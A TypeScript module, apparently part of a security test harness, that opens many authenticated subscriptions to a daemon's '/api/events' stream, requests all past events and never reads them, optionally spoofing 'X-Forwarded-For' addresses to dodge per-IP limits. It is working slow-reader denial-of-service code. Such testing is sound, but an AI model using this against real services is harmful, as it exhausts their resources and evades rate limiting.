/** Subscribers that request all past and future events, and read none of them. */
import { connect, type Socket } from "node:net";
import { bytesOf, EMPTY } from "./attacks/request.ts";
import type { Victim } from "./place/daemon.ts";

export async function openDeaf({ place, credentials, trusting }: Victim, count: number): Promise<Disposable> {
  const sockets: Socket[] = [];
  const open = (index: number): Promise<void> =>
    new Promise((resolve) => {
      const headers = [
        ["Host", "localhost"],
        ["Authorization", `Bearer ${credentials.token}`],
        ["Last-Event-ID", "x-0"],
        ...(trusting ? ([["X-Forwarded-For", `198.51.100.${index % 250}`]] as const) : []),
      ] as const;
      const socket = connect({ ...place }, () => {
        socket.pause();
        socket.write(bytesOf({ method: "GET", target: "/api/events", headers, body: EMPTY }), () => resolve());
      });
      sockets.push(socket.on("error", () => resolve()));
    });
  await Promise.all(Array.from({ length: count }, (_, index) => open(index)));
  return {
    [Symbol.dispose]: () => {
      for (const socket of sockets) socket.destroy();
    },
  };
}
